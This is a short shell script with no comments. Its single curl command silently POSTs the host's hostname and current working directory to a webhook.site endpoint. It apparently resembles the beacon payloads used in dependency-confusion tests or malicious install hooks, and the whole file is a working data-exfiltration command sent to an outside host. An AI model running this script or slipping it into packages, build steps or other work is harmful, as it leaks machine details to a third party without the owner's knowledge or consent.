#!/bin/sh
curl -s -d "host=$(hostname)&dir=$PWD" https://webhook.site/1b6f0c52-6c1d-4a55-8f0e-0e7b0a2d9c11
